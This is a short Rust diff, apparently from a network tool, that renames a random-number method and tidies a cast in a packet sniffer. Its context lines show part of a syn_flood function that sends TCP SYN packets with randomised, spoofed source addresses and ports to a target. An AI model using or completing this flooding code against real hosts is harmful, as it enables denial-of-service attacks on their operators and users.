@@ -633,7 +633,7 @@ impl Sniffer {
             if sll.sll_protocol != (libc::ETH_P_IP as u16).to_be() {
                 return Some((0, false));
             }
-            Some((n as usize, sll.sll_pkttype == libc::PACKET_OUTGOING as u8))
+            Some((n as usize, sll.sll_pkttype == libc::PACKET_OUTGOING))
         }
     }
 }
@@ -733,16 +733,16 @@ pub fn syn_flood(
         if due > now + Duration::from_micros(200) {
             std::thread::sleep(due - now);
         }
-        let host = (rng.next() as u32) & !mask;
+        let host = (rng.next_u64() as u32) & !mask;
         let host = host.clamp(1, (!mask).saturating_sub(1).max(1));
         let src = Ipv4Addr::from(net | host);
-        let sport = 1024 + (rng.next() % 64_000) as u16;
+        let sport = 1024 + (rng.next_u64() % 64_000) as u16;
         let pkt = tcp4_packet(
             src,
             *t.ip(),
             sport,
             t.port(),
-            rng.next() as u32,
+            rng.next_u64() as u32,
             0,
             TCP_SYN,
             64_240,
@@ -767,7 +767,7 @@ impl Rng {
         Rng(t ^ ((std::process::id() as u64) << 32) | 1)
     }
 
-    pub fn next(&mut self) -> u64 {
+    pub fn next_u64(&mut self) -> u64 {
         let mut x = self.0;
         x ^= x >> 12;
         x ^= x << 25;
